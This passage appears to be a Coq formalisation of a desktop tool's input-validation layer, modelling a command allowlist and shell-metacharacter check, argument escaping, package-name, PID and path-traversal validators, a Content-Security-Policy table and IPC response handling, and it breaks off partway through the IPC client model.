(** * Dev-Janitor security layer: command validation, input validation, CSP

    A shallow embedding of [src/main/security/commandValidator.ts],
    [src/main/security/inputValidator.ts] and of the CSP policy table,
    followed by the properties of the validation layer; then of
    [src/shared/types/ipcResponse.ts], of the retry loop of
    [src/renderer/ipc/ipcClientWithTimeout.ts] and of the bounded LRU cache
    of [src/main/utils/cacheManager.ts], with their properties.

    JavaScript strings are sequences of UTF-16 code units; they are
    modelled as lists of code-unit values.  JavaScript numbers are IEEE-754
    doubles; they are modelled with the Standard Library's [spec_float]. *)

From Stdlib Require Import List Bool Arith NArith ZArith Lia String Ascii.
From Stdlib Require Import SpecFloat FunInd QArith Lqa.
Close Scope Q_scope.
Import ListNotations.

(* ===================================================================== *)
(** * JavaScript strings                                                  *)
(* ===================================================================== *)

Module JSString.

(** A UTF-16 code unit. *)
Abbreviation code_unit := N (only parsing).

(** A JavaScript string value: its code units in order. *)
Abbreviation jsstring := (list N) (only parsing).

(** An ASCII character as a code unit. *)
Definition ch (a : ascii) : code_unit := N_of_ascii a.

(** The characters [\] (92) and the double quote (34). *)
Definition bslash : ascii := ascii_of_nat 92.
Definition dquote : ascii := ascii_of_nat 34.

(** A string literal made of ASCII characters. *)
Definition lit (s : string) : jsstring := map ch (list_ascii_of_string s).

(** Strict equality [===] on strings: same code units in the same order. *)
Fixpoint str_eqb (a b : jsstring) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => N.eqb x y && str_eqb a' b'
  | _, _ => false
  end.

(** [Array.prototype.includes] on an array of one-code-unit strings. *)
Definition includes_char (l : list code_unit) (c : code_unit) : bool :=
  existsb (N.eqb c) l.

(** [Array.prototype.includes] on an array of strings. *)
Definition includes (l : list jsstring) (s : jsstring) : bool :=
  existsb (str_eqb s) l.

(** ECMAScript WhiteSpace and LineTerminator code points: the characters
    removed by [String.prototype.trim] and matched by the regular
    expression class [\s]. *)
Definition isWhiteSpace (c : code_unit) : bool :=
  ((9 <=? c) && (c <=? 13)          (* TAB LF VT FF CR *)
   || (c =? 32)                     (* SPACE *)
   || (c =? 160)                    (* NO-BREAK SPACE *)
   || (c =? 5760)                   (* OGHAM SPACE MARK *)
   || (8192 <=? c) && (c <=? 8202)  (* EN QUAD .. HAIR SPACE *)
   || (c =? 8232)                   (* LINE SEPARATOR *)
   || (c =? 8233)                   (* PARAGRAPH SEPARATOR *)
   || (c =? 8239)                   (* NARROW NO-BREAK SPACE *)
   || (c =? 8287)                   (* MEDIUM MATHEMATICAL SPACE *)
   || (c =? 12288)                  (* IDEOGRAPHIC SPACE *)
   || (c =? 65279))%N.              (* ZERO WIDTH NO-BREAK SPACE *)

(** [String.prototype.trimStart]. *)
Fixpoint trimStart (s : jsstring) : jsstring :=
  match s with
  | [] => []
  | c :: r => if isWhiteSpace c then trimStart r else s
  end.

(** [String.prototype.trimEnd]. *)
Definition trimEnd (s : jsstring) : jsstring := rev (trimStart (rev s)).

(** [String.prototype.trim]. *)
Definition trim (s : jsstring) : jsstring := trimEnd (trimStart s).

(** [s.split(/\s+/)]: the pieces of [s] between maximal runs of white
    space.  A run at the very start or the very end of [s] leaves an empty
    piece there, and the result is never the empty array.  [in_run] tells
    that the previous code unit belonged to a separator run. *)
Fixpoint split_ws_from (in_run : bool) (s : jsstring) : list jsstring :=
  match s with
  | [] => [[]]
  | c :: r =>
      if isWhiteSpace c then
        if in_run then split_ws_from true r else [] :: split_ws_from true r
      else
        match split_ws_from false r with
        | piece :: pieces => (c :: piece) :: pieces
        | [] => [[c]]
        end
  end.

Definition split_ws (s : jsstring) : list jsstring := split_ws_from false s.

(** [Array.prototype.join] with separator [sep]. *)
Fixpoint join (sep : jsstring) (l : list jsstring) : jsstring :=
  match l with
  | [] => []
  | [x] => x
  | x :: rest => x ++ sep ++ join sep rest
  end.

(** [String.prototype.startsWith]. *)
Fixpoint startsWith (p s : jsstring) : bool :=
  match p, s with
  | [], _ => true
  | x :: p', y :: s' => N.eqb x y && startsWith p' s'
  | _ :: _, [] => false
  end.

End JSString.

Export JSString.

(* ===================================================================== *)
(** * Regular expressions                                                 *)
(* ===================================================================== *)

Module Regex.

(** One item of a character class: a single character or a range. *)
Inductive class_item : Type :=
  | One (c : ascii)
  | Range (lo hi : ascii).

Definition item_has (c : code_unit) (i : class_item) : bool :=
  match i with
  | One a => N.eqb c (ch a)
  | Range lo hi => N.leb (ch lo) c && N.leb c (ch hi)
  end.

(** Membership in a character class [[...]]. *)
Definition class_has (items : list class_item) (c : code_unit) : bool :=
  existsb (item_has c) items.

(** The pattern language used by the validators. *)
Inductive regex : Type :=
  | Void                          (* matches nothing *)
  | Eps                           (* the empty string *)
  | Class (items : list class_item)
  | AnyChar                       (* any code unit *)
  | Cat (r1 r2 : regex)
  | Alt (r1 r2 : regex)
  | Star (r : regex).

(** [r?] *)
Definition Opt (r : regex) : regex := Alt Eps r.

(** A literal character. *)
Definition Chr (a : ascii) : regex := Class [One a].

Fixpoint nullable (r : regex) : bool :=
  match r with
  | Void => false
  | Eps => true
  | Class _ => false
  | AnyChar => false
  | Cat r1 r2 => nullable r1 && nullable r2
  | Alt r1 r2 => nullable r1 || nullable r2
  | Star _ => true
  end.

(** Derivative of [r] with respect to the code unit [c]. *)
Fixpoint deriv (c : code_unit) (r : regex) : regex :=
  match r with
  | Void => Void
  | Eps => Void
  | Class items => if class_has items c then Eps else Void
  | AnyChar => Eps
  | Cat r1 r2 =>
      if nullable r1
      then Alt (Cat (deriv c r1) r2) (deriv c r2)
      else Cat (deriv c r1) r2
  | Alt r1 r2 => Alt (deriv c r1) (deriv c r2)
  | Star r1 => Cat (deriv c r1) (Star r1)
  end.

(** Whole-string match: [/^r$/.test(s)]. *)
Fixpoint full_match (r : regex) (s : jsstring) : bool :=
  match s with
  | [] => nullable r
  | c :: s' => full_match (deriv c r) s'
  end.

(** Unanchored search: [/r/.test(s)], true when some substring matches. *)
Definition search (r : regex) (s : jsstring) : bool :=
  full_match (Cat (Star AnyChar) (Cat r (Star AnyChar))) s.

(** The language of a pattern. *)
Inductive Matches : regex -> jsstring -> Prop :=
  | MEps : Matches Eps []
  | MClass items c : class_has items c = true -> Matches (Class items) [c]
  | MAny c : Matches AnyChar [c]
  | MCat r1 r2 s1 s2 :
      Matches r1 s1 -> Matches r2 s2 -> Matches (Cat r1 r2) (s1 ++ s2)
  | MAltL r1 r2 s : Matches r1 s -> Matches (Alt r1 r2) s
  | MAltR r1 r2 s : Matches r2 s -> Matches (Alt r1 r2) s
  | MStarNil r : Matches (Star r) []
  | MStarApp r s1 s2 :
      Matches r s1 -> Matches (Star r) s2 -> Matches (Star r) (s1 ++ s2).

End Regex.

Import Regex.

(* ===================================================================== *)
(** * commandValidator.ts                                                 *)
(* ===================================================================== *)

Module CommandValidator.

Record CommandValidationResult : Type := {
  valid : bool;
  sanitizedCommand : option jsstring;
  error : option jsstring
}.

Definition ALLOWED_COMMANDS : list jsstring :=
  map lit
    [ "npm"; "npx"; "pip"; "pip3"; "composer"; "cargo"; "gem"; "node";
      "python"; "python3" ]%string.

(** The character class of [DANGEROUS_PATTERNS]. *)
Definition DANGEROUS_CLASS : list class_item :=
  map One
    [ ";"; "&"; "|"; "`"; "$"; "("; ")"; "{"; "}"; "["; "]"; "<"; ">";
      bslash; "'"; dquote ]%char.

Definition DANGEROUS_PATTERNS : regex := Class DANGEROUS_CLASS.

Definition containsDangerousChars (input : jsstring) : bool :=
  match input with
  | [] => false
  | _ => search DANGEROUS_PATTERNS input
  end.

Definition backslash : code_unit := ch bslash.

(** The local array [dangerousChars] of [escapeArgument]: every dangerous
    character but the backslash. *)
Definition dangerousChars : list code_unit :=
  map ch
    [ ";"; "&"; "|"; "`"; "$"; "("; ")"; "{"; "}"; "["; "]"; "<"; ">";
      "'"; dquote ]%char.

(** One iteration of the [while] loop of [escapeArgument], from index [i]
    with [result] accumulated so far. *)
Definition escape_step (arg : jsstring) (i : nat) (result : jsstring)
  : nat * jsstring :=
  match nth_error arg i with
  | None => (i, result)
  | Some char =>
      if N.eqb char backslash then
        match nth_error arg (i + 1) with
        | Some next =>
            if includes_char dangerousChars next
            then (i + 2, result ++ [char; next])
            else if N.eqb next backslash
                 then (i + 2, result ++ [backslash; backslash])
                 else (i + 1, result ++ [backslash; backslash])
        | None => (i + 1, result ++ [backslash; backslash])
        end
      else if includes_char dangerousChars char
           then (i + 1, result ++ [backslash; char])
           else (i + 1, result ++ [char])
  end.

(** The [while (i < arg.length)] loop; every iteration advances [i], so
    [length arg] iterations exhaust the input. *)
Fixpoint escape_loop (fuel : nat) (arg : jsstring) (i : nat)
  (result : jsstring) : jsstring :=
  match fuel with
  | O => result
  | S fuel' =>
      if Nat.ltb i (List.length arg)
      then let (i', result') := escape_step arg i result in
           escape_loop fuel' arg i' result'
      else result
  end.

Definition escapeArgument (arg : jsstring) : jsstring :=
  match arg with
  | [] => []
  | _ => escape_loop (List.length arg) arg 0 []
  end.

(** [`${baseCommand}`] for a value that may be [undefined]. *)
Definition template (x : option jsstring) : jsstring :=
  match x with
  | Some s => s
  | None => lit "undefined"
  end.

(** '命令不能为空' *)
Definition ERR_EMPTY : jsstring :=
  [21629; 20196; 19981; 33021; 20026; 31354]%N.

(** '命令不在允许列表中: ' *)
Definition ERR_NOT_ALLOWED : jsstring :=
  [21629; 20196; 19981; 22312; 20801; 35768; 21015; 34920; 20013; 58; 32]%N.

(** '命令包含不安全字符' *)
Definition ERR_UNSAFE : jsstring :=
  [21629; 20196; 21253; 21547; 19981; 23433; 20840; 23383; 31526]%N.

Definition reject (msg : jsstring) : CommandValidationResult :=
  {| valid := false; sanitizedCommand := None; error := Some msg |}.

Definition accept (cmd : jsstring) : CommandValidationResult :=
  {| valid := true; sanitizedCommand := Some cmd; error := None |}.

Definition validateCommand (command : jsstring) : CommandValidationResult :=
  match command with
  | [] => reject ERR_EMPTY
  | _ =>
      let trimmedCommand := trim command in
      if Nat.eqb (List.length trimmedCommand) 0 then reject ERR_EMPTY
      else
        let parts := split_ws trimmedCommand in
        let baseCommand := nth_error parts 0 in
        if negb (match baseCommand with
                 | Some b => includes ALLOWED_COMMANDS b
                 | None => false
                 end)
        then reject (ERR_NOT_ALLOWED ++ template baseCommand)
        else if containsDangerousChars trimmedCommand
        then reject ERR_UNSAFE
        else
          let args := tl parts in
          let escapedArgs := map escapeArgument args in
          let sanitized :=
            join (lit " ") (match baseCommand with
                            | Some b => b :: escapedArgs
                            | None => lit "undefined" :: escapedArgs
                            end) in
          accept sanitized
  end.

End CommandValidator.

(* ===================================================================== *)
(** * JavaScript values and numbers                                       *)
(* ===================================================================== *)

Module JSValue.

(** The values an [unknown] parameter can hold. *)
#[local] Unset Elimination Schemes.
Inductive jsvalue : Type :=
  | JSUndefined
  | JSNull
  | JSBoolean (b : bool)
  | JSNumber (x : spec_float)
  | JSString (s : jsstring)
  | JSBigInt (z : Z)
  | JSArray (elems : list jsvalue)
  | JSObject (props : list (jsstring * jsvalue)).
#[local] Set Elimination Schemes.

Inductive jstype : Type :=
  | TyUndefined | TyObject | TyBoolean | TyNumber | TyString | TyBigInt.

(** The [typeof] operator. *)
Definition typeof (v : jsvalue) : jstype :=
  match v with
  | JSUndefined => TyUndefined
  | JSNull => TyObject
  | JSBoolean _ => TyBoolean
  | JSNumber _ => TyNumber
  | JSString _ => TyString
  | JSBigInt _ => TyBigInt
  | JSArray _ => TyObject
  | JSObject _ => TyObject
  end.

(** [Number.isNaN]. *)
Definition Number_isNaN (v : jsvalue) : bool :=
  match v with
  | JSNumber S754_nan => true
  | _ => false
  end.

(** [Number.isFinite]. *)
Definition Number_isFinite (v : jsvalue) : bool :=
  match v with
  | JSNumber (S754_zero _) => true
  | JSNumber (S754_finite _ _ _) => true
  | _ => false
  end.

(** [Number.isInteger]: a finite number whose value [m * 2^e] has no
    fractional part. *)
Definition Number_isInteger (v : jsvalue) : bool :=
  match v with
  | JSNumber (S754_zero _) => true
  | JSNumber (S754_finite _ m e) =>
      (0 <=? e)%Z || (Z.pos m mod 2 ^ (- e) =? 0)%Z
  | _ => false
  end.

(** The number [0]. *)
Definition zero : spec_float := S754_zero false.

(** [x <= y] on numbers. *)
Definition number_le (x y : spec_float) : bool := SFleb x y.

(** The double with integral value [n], for [0 < n < 2^53]. *)
Definition of_pos (n : positive) : spec_float :=
  let shift := (53 - Z.pos (digits2_pos n))%Z in
  match (Z.pos n * 2 ^ shift)%Z with
  | Z.pos m => S754_finite false m (- shift)
  | _ => S754_nan
  end.

(** The doubles [-1] and [1.5]. *)
Definition minus_one : spec_float := S754_finite true 4503599627370496 (-52).
Definition one_and_a_half : spec_float :=
  S754_finite false 6755399441055744 (-52).

End JSValue.

Import JSValue.

(* ===================================================================== *)
(** * inputValidator.ts                                                   *)
(* ===================================================================== *)

Module InputValidator.

Record ValidationResult (T : Type) : Type := {
  valid : bool;
  value : option T;
  error : option jsstring
}.

Arguments valid {T} _.
Arguments value {T} _.
Arguments error {T} _.

Definition accept {T : Type} (v : T) : ValidationResult T :=
  {| valid := true; value := Some v; error := None |}.

Definition reject {T : Type} (msg : jsstring) : ValidationResult T :=
  {| valid := false; value := None; error := Some msg |}.

(** [/^(@[a-z0-9-~][a-z0-9-._~]*\/)?[a-z0-9-~][a-z0-9-._~]*$/] *)
Definition NPM_HEAD : list class_item :=
  [ Range "a" "z"; Range "0" "9"; One "-"; One "~" ]%char.

Definition NPM_TAIL : list class_item :=
  [ Range "a" "z"; Range "0" "9"; One "-"; One "."; One "_"; One "~" ]%char.

Definition NPM_PACKAGE_PATTERN : regex :=
  Cat (Opt (Cat (Chr "@")
              (Cat (Class NPM_HEAD) (Cat (Star (Class NPM_TAIL)) (Chr "/")))))
      (Cat (Class NPM_HEAD) (Star (Class NPM_TAIL))).

(** [/^[a-zA-Z0-9]([a-zA-Z0-9._-]*[a-zA-Z0-9])?$/] *)
Definition PIP_EDGE : list class_item :=
  [ Range "a" "z"; Range "A" "Z"; Range "0" "9" ]%char.

Definition PIP_INNER : list class_item :=
  [ Range "a" "z"; Range "A" "Z"; Range "0" "9"; One "."; One "_"; One "-" ]%char.

Definition PIP_PACKAGE_PATTERN : regex :=
  Cat (Class PIP_EDGE) (Opt (Cat (Star (Class PIP_INNER)) (Class PIP_EDGE))).

(** [/\.\./] *)
Definition PATH_TRAVERSAL_PATTERN : regex := Cat (Chr ".") (Chr ".").

(** '包名不能为空' *)
Definition ERR_NAME_EMPTY : jsstring :=
  [21253; 21517; 19981; 33021; 20026; 31354]%N.

(** '无效的包名格式。包名必须符合 npm 或 pip 包名规范' *)
Definition ERR_NAME_FORMAT : jsstring :=
  [26080; 25928; 30340; 21253; 21517; 26684; 24335; 12290; 21253; 21517;
   24517; 39035; 31526; 21512; 32; 110; 112; 109; 32; 25110; 32; 112; 105;
   112; 32; 21253; 21517; 35268; 33539]%N.

Definition validatePackageName (name : jsstring) : ValidationResult jsstring :=
  if str_eqb (trim name) [] then reject ERR_NAME_EMPTY
  else
    let trimmedName := trim name in
    if full_match NPM_PACKAGE_PATTERN trimmedName then accept trimmedName
    else if full_match PIP_PACKAGE_PATTERN trimmedName then accept trimmedName
    else reject ERR_NAME_FORMAT.

(** 'PID 必须是数字类型' *)
Definition ERR_PID_TYPE : jsstring :=
  [80; 73; 68; 32; 24517; 39035; 26159; 25968; 23383; 31867; 22411]%N.

(** 'PID 不能是 NaN' *)
Definition ERR_PID_NAN : jsstring :=
  [80; 73; 68; 32; 19981; 33021; 26159; 32; 78; 97; 78]%N.

(** 'PID 必须是有限数' *)
Definition ERR_PID_FINITE : jsstring :=
  [80; 73; 68; 32; 24517; 39035; 26159; 26377; 38480; 25968]%N.

(** 'PID 必须是整数' *)
Definition ERR_PID_INTEGER : jsstring :=
  [80; 73; 68; 32; 24517; 39035; 26159; 25972; 25968]%N.

(** 'PID 必须是正整数' *)
Definition ERR_PID_POSITIVE : jsstring :=
  [80; 73; 68; 32; 24517; 39035; 26159; 27491; 25972; 25968]%N.

Definition validatePID (pid : jsvalue) : ValidationResult spec_float :=
  match pid with
  | JSNumber x =>
      if Number_isNaN pid then reject ERR_PID_NAN
      else if negb (Number_isFinite pid) then reject ERR_PID_FINITE
      else if negb (Number_isInteger pid) then reject ERR_PID_INTEGER
      else if number_le x zero then reject ERR_PID_POSITIVE
      else accept x
  | _ => reject ERR_PID_TYPE
  end.

(** '路径不能为空' *)
Definition ERR_PATH_EMPTY : jsstring :=
  [36335; 24452; 19981; 33021; 20026; 31354]%N.

(** '路径包含不安全字符 (..)，可能存在路径遍历攻击' *)
Definition ERR_PATH_TRAVERSAL : jsstring :=
  [36335; 24452; 21253; 21547; 19981; 23433; 20840; 23383; 31526; 32; 40;
   46; 46; 41; 65292; 21487; 33021; 23384; 22312; 36335; 24452; 36941;
   21382; 25915; 20987]%N.

Definition validatePath (path : jsstring) : ValidationResult jsstring :=
  if str_eqb (trim path) [] then reject ERR_PATH_EMPTY
  else
    let trimmedPath := trim path in
    if search PATH_TRAVERSAL_PATTERN trimmedPath
    then reject ERR_PATH_TRAVERSAL
    else accept trimmedPath.

End InputValidator.

(* ===================================================================== *)
(** * cspManager.ts                                                       *)
(* ===================================================================== *)

Module CSPManager.

Record CSPConfig : Type := {
  isDevelopment : bool;
  devServerUrl : option jsstring;
  nonce : option jsstring
}.

(** A policy table: directive names with their source-expression tokens,
    in order. *)
Definition PolicyTable := list (jsstring * list jsstring).

(** The policy template [CSP_POLICY] of the design document. *)
Definition CSP_POLICY : PolicyTable :=
  [ (lit "default-src", [lit "'self'"]);
    (lit "script-src", [lit "'self'"]);
    (lit "style-src", [lit "'self'"; lit "'unsafe-inline'"]);
    (lit "img-src", [lit "'self'"; lit "data:"; lit "https:"]);
    (lit "connect-src", [lit "'self'"]);
    (lit "font-src", [lit "'self'"]);
    (lit "object-src", [lit "'none'"]);
    (lit "base-uri", [lit "'self'"]);
    (lit "form-action", [lit "'self'"]);
    (lit "frame-ancestors", [lit "'none'"]) ].

(** The token list of directive [name]. *)
Fixpoint directive (name : jsstring) (p : PolicyTable) : option (list jsstring) :=
  match p with
  | [] => None
  | (k, toks) :: rest => if str_eqb k name then Some toks else directive name rest
  end.

(** Modelled from the spec: [cspManager.ts] is missing from the sources;
    appending tokens to one directive of a copy of the table. *)
Definition appendTo (name : jsstring) (extra : list jsstring) (p : PolicyTable)
  : PolicyTable :=
  map (fun entry => if str_eqb (fst entry) name
                    then (fst entry, snd entry ++ extra) else entry) p.

(** Modelled from the spec: [cspManager.ts] is missing from the sources;
    the websocket-scheme equivalent of an origin replaces [http] by [ws]
    (and so [https] by [wss]). *)
Definition websocketOrigin (url : jsstring) : jsstring :=
  if startsWith (lit "http") url then lit "ws" ++ skipn 4 url else url.

(** Modelled from the spec: [cspManager.ts] is missing from the sources;
    the request-scoped copy of the base table: the nonce token is appended
    to [script-src], the development origins to [connect-src]. *)
Definition requestPolicy (config : CSPConfig) : PolicyTable :=
  let withNonce :=
    match nonce config with
    | Some v => appendTo (lit "script-src") [lit "'nonce-" ++ v ++ lit "'"] CSP_POLICY
    | None => CSP_POLICY
    end in
  if isDevelopment config then
    appendTo (lit "connect-src")
      ([lit "http://localhost:*"; lit "ws://localhost:*"] ++
       match devServerUrl config with
       | Some url => [url; websocketOrigin url]
       | None => []
       end)
      withNonce
  else withNonce.

(** Modelled from the spec: [cspManager.ts] is missing from the sources;
    [directive-name token1 token2 ...] joined with [; ]. *)
Definition serialize (p : PolicyTable) : jsstring :=
  join (lit "; ") (map (fun entry => join (lit " ") (fst entry :: snd entry)) p).

(** Modelled from the spec: [cspManager.ts] is missing from the sources;
    the header value is the serialization of the request-scoped table. *)
Definition generateCSPHeader (config : CSPConfig) : jsstring :=
  serialize (requestPolicy config).

End CSPManager.

(* ===================================================================== *)
(** * Notions the properties are stated with                              *)
(* ===================================================================== *)

(** The dangerous character set: [; & | ` $ ( ) { } [ ] < > \], the single
    quote and the double quote. *)
Definition dangerous_set : list code_unit :=
  [59; 38; 124; 96; 36; 40; 41; 123; 125; 91; 93; 60; 62; 92; 39; 34]%N.

Definition is_dangerous (c : code_unit) : bool := includes_char dangerous_set c.

(** The string holds some character of the dangerous set. *)
Definition has_dangerous (s : jsstring) : Prop :=
  exists c, In c s /\ is_dangerous c = true.

(** The white-space-separated tokens of a string: its maximal runs of
    characters that are not white space, in order. *)
Fixpoint words (s : jsstring) : list jsstring :=
  match s with
  | [] => []
  | c :: r =>
      if isWhiteSpace c then words r
      else match r with
           | [] => [[c]]
           | d :: _ =>
               if isWhiteSpace d then [c] :: words r
               else match words r with
                    | w :: ws => (c :: w) :: ws
                    | [] => [[c]]
                    end
           end
  end.

(** The last character of a string is not white space (false on [[]]). *)
Fixpoint ends_clean (s : jsstring) : bool :=
  match s with
  | [] => false
  | [c] => negb (isWhiteSpace c)
  | _ :: r => ends_clean r
  end.

(** The first white-space-separated token, when there is one. *)
Definition first_token (s : jsstring) : option jsstring := hd_error (words s).

(** Every run of white space replaced by one space character. *)
Fixpoint collapse_from (in_run : bool) (s : jsstring) : jsstring :=
  match s with
  | [] => []
  | c :: r =>
      if isWhiteSpace c then
        if in_run then collapse_from true r else 32%N :: collapse_from true r
      else c :: collapse_from false r
  end.

Definition collapse_ws (s : jsstring) : jsstring := collapse_from false s.

(** The escaping algorithm as a function of the remaining input: what the
    loop of [escapeArgument] appends from a given position on. *)
Fixpoint escape (s : jsstring) : jsstring :=
  match s with
  | [] => []
  | c :: r =>
      if N.eqb c CommandValidator.backslash then
        match r with
        | d :: r' =>
            if includes_char CommandValidator.dangerousChars d
            then c :: d :: escape r'
            else if N.eqb d CommandValidator.backslash
                 then CommandValidator.backslash
                        :: CommandValidator.backslash :: escape r'
                 else CommandValidator.backslash
                        :: CommandValidator.backslash :: escape r
        | [] => [CommandValidator.backslash; CommandValidator.backslash]
        end
      else if includes_char CommandValidator.dangerousChars c
           then CommandValidator.backslash :: c :: escape r
           else c :: escape r
  end.

(** Induction along the cases of [escape]. *)
Functional Scheme escape_ind := Induction for escape Sort Prop.

(** Removing, once and from left to right, every escape sequence: a
    backslash together with the character it precedes.  A backslash that
    ends the string precedes nothing and stays. *)
Fixpoint strip_escapes (s : jsstring) : jsstring :=
  match s with
  | [] => []
  | c :: r =>
      if N.eqb c CommandValidator.backslash then
        match r with
        | _ :: r' => strip_escapes r'
        | [] => [c]
        end
      else c :: strip_escapes r
  end.

(** The string contains the two-character substring [..]. *)
Definition has_dotdot (s : jsstring) : Prop :=
  exists pre suf, s = pre ++ [46; 46]%N ++ suf.

(** Two consecutive dots occur in the string. *)
Fixpoint dotdotb (s : jsstring) : bool :=
  match s with
  | c :: (d :: _) as r => N.eqb c 46 && N.eqb d 46 || dotdotb r
  | _ => false
  end.

(** One segment of an npm name: a head character followed by tail
    characters. *)
Definition npm_segment (s : jsstring) : bool :=
  match s with
  | [] => false
  | h :: tl => class_has InputValidator.NPM_HEAD h
               && forallb (class_has InputValidator.NPM_TAIL) tl
  end.

(** The npm grammar: [name] or [@scope/name]. *)
Definition npm_name (s : jsstring) : Prop :=
  npm_segment s = true \/
  exists scope name,
    s = [64%N] ++ scope ++ [47%N] ++ name
    /\ npm_segment scope = true /\ npm_segment name = true.

(** The pip grammar: one alphanumeric character, or an alphanumeric first
    and last character around inner characters. *)
Definition pip_name (s : jsstring) : Prop :=
  (exists a, s = [a] /\ class_has InputValidator.PIP_EDGE a = true) \/
  (exists a inner b,
     s = a :: inner ++ [b]
     /\ class_has InputValidator.PIP_EDGE a = true
     /\ forallb (class_has InputValidator.PIP_INNER) inner = true
     /\ class_has InputValidator.PIP_EDGE b = true).

(** The number [x] is finite and its value is the integer [k]. *)
Definition is_integer_value (x : spec_float) (k : Z) : Prop :=
  match x with
  | S754_zero _ => k = 0%Z
  | S754_finite s m e =>
      let signed := if s then Z.neg m else Z.pos m in
      if (0 <=? e)%Z then k = (signed * 2 ^ e)%Z
      else signed = (k * 2 ^ (- e))%Z
  | _ => False
  end.

(** The rejection conditions of a process identifier, most specific first,
    each with its reason. *)
Definition pid_rejections : list ((jsvalue -> bool) * jsstring) :=
  [ (fun v => match typeof v with TyNumber => false | _ => true end,
     InputValidator.ERR_PID_TYPE);
    (Number_isNaN, InputValidator.ERR_PID_NAN);
    (fun v => negb (Number_isFinite v), InputValidator.ERR_PID_FINITE);
    (fun v => negb (Number_isInteger v), InputValidator.ERR_PID_INTEGER);
    (fun v => match v with JSNumber x => number_le x zero | _ => true end,
     InputValidator.ERR_PID_POSITIVE) ].

(** The reason of the first rejection condition that applies. *)
Fixpoint first_rejection (conds : list ((jsvalue -> bool) * jsstring))
  (v : jsvalue) : option jsstring :=
  match conds with
  | [] => None
  | (applies, reason) :: rest =>
      if applies v then Some reason else first_rejection rest v
  end.

(* ===================================================================== *)
(** * inputValidator.ts: package managers                                 *)
(* ===================================================================== *)

Module PackageManagers.

Definition VALID_PACKAGE_MANAGERS : list jsstring :=
  map lit [ "npm"; "pip"; "composer" ]%string.

(** '包管理器名称不能为空' *)
Definition ERR_MANAGER_EMPTY : jsstring :=
  [21253; 31649; 29702; 22120; 21517; 31216; 19981; 33021; 20026; 31354]%N.

(** '无效的包管理器。支持的包管理器: ' *)
Definition ERR_MANAGER_INVALID : jsstring :=
  [26080; 25928; 30340; 21253; 31649; 29702; 22120; 12290; 25903; 25345;
   30340; 21253; 31649; 29702; 22120; 58; 32]%N.

(** [String.prototype.toLowerCase] applies the Unicode case mappings, which
    are data of the JavaScript engine and not of the repository: the
    validator takes the case mapping as a parameter. *)
Definition validatePackageManager (toLowerCase : jsstring -> jsstring)
  (manager : jsstring) : InputValidator.ValidationResult jsstring :=
  if str_eqb (trim manager) [] then InputValidator.reject ERR_MANAGER_EMPTY
  else
    let trimmedManager := toLowerCase (trim manager) in
    if includes VALID_PACKAGE_MANAGERS trimmedManager
    then InputValidator.accept trimmedManager
    else InputValidator.reject
           (ERR_MANAGER_INVALID ++ join (lit ", ") VALID_PACKAGE_MANAGERS).

(** Lower-casing restricted to the ASCII letters [A]-[Z]. *)
Definition lowerUnit (c : code_unit) : code_unit :=
  if ((65 <=? c) && (c <=? 90))%N then (c + 32)%N else c.

Definition asciiLower (s : jsstring) : jsstring := map lowerUnit s.

(** Every code unit of the string is an ASCII character. *)
Definition isAscii (s : jsstring) : bool := forallb (fun c => (c <? 128)%N) s.

End PackageManagers.

(* ===================================================================== *)
(** * ipcResponse.ts                                                      *)
(* ===================================================================== *)

Module IPCResponse.

Inductive IPCErrorCode : Type :=
  | VALIDATION_ERROR
  | COMMAND_REJECTED
  | TIMEOUT
  | NOT_FOUND
  | PERMISSION_DENIED
  | INTERNAL_ERROR
  | NETWORK_ERROR
  | CANCELLED.

Record IPCError : Type := {
  code : IPCErrorCode;
  message : jsstring;
  details : option jsvalue
}.

(** A field holding [undefined] is [None]: so is [data] when the payload
    type itself admits [undefined]. *)
Record IPCResponse (T : Type) : Type := {
  success : bool;
  data : option T;
  error : option IPCError;
  timestamp : Z
}.

Arguments success {T} _.
Arguments data {T} _.
Arguments error {T} _.
Arguments timestamp {T} _.

(** [now] is the value of [Date.now()]. *)
Definition createSuccessResponse {T : Type} (now : Z) (d : option T)
  : IPCResponse T :=
  {| success := true; data := d; error := None; timestamp := now |}.

Definition createErrorResponse {T : Type} (now : Z) (c : IPCErrorCode)
  (msg : jsstring) (det : option jsvalue) : IPCResponse T :=
  {| success := false; data := None;
     error := Some {| code := c; message := msg; details := det |};
     timestamp := now |}.

Definition isDefined {A : Type} (x : option A) : bool :=
  match x with
  | Some _ => true
  | None => false
  end.

Definition isSuccessResponse {T : Type} (response : IPCResponse T) : bool :=
  Bool.eqb (success response) true && isDefined (data response).

Definition isErrorResponse {T : Type} (response : IPCResponse T) : bool :=
  Bool.eqb (success response) false && isDefined (error response).

(** The [Error] thrown by [unwrapResponse]: its message and its [code]. *)
Record UnwrapError : Type := {
  errorMessage : jsstring;
  errorCode : option IPCErrorCode
}.

(** Returns the data ([inr]) or throws ([inl]). *)
Definition unwrapResponse {T : Type} (response : IPCResponse T)
  : UnwrapError + T :=
  let thrownError :=
    {| errorMessage := match error response with
                       | Some e => message e
                       | None => lit "Unknown error"
                       end;
       errorCode := match error response with
                    | Some e => Some (code e)
                    | None => None
                    end |} in
  if isSuccessResponse response then
    match data response with
    | Some d => inr d
    | None => inl thrownError
    end
  else inl thrownError.

End IPCResponse.

(* ===================================================================== *)
(** * ipcClientWithTimeout.ts                                             *)
(* ===================================================================== *)

Module IPCClient.

(** The number [1]. *)
Definition one : spec_float := of_pos 1.

(** [x + y] on numbers: the sum of two doubles, rounded to the nearest
    double, ties to even. *)
Definition number_add (x y : spec_float) : spec_float := SFadd 53 1024 x y.

(** [n < x] for a whole number [n] and a number [x], by their values: the
    comparison of doubles when [n] is a double, as every whole number up
    to [2^53] is.  It is false on [NaN]. *)
Definition whole_lt (n : Z) (x : spec_float) : bool :=
  match x with
  | S754_nan => false
  | S754_infinity s => negb s
  | S754_zero _ => (n <? 0)%Z
  | S754_finite s m e =>
      let signed := if s then Z.neg m else Z.pos m in
      if (0 <=? e)%Z then (n <? signed * 2 ^ e)%Z
      else (n * 2 ^ (- e) <? signed)%Z
  end.


Definition DEFAULT_IPC_TIMEOUT : spec_float := of_pos 30000.

(** The options are numbers: fractions, infinities and [NaN] included. *)
Record IPCCallOptions : Type := {
  timeout : option spec_float;
  retries : option spec_float;
  retryDelay : option spec_float
}.

(** The values a call can be rejected with. *)
Inductive thrown : Type :=
  | IPCTimeoutError (channel : jsstring) (timeoutMs : spec_float)
  | ErrorObject (message : jsstring)
  | NonError (v : jsvalue)
  | StringifiedError (v : jsvalue)   (* [new Error(String(v))] *)
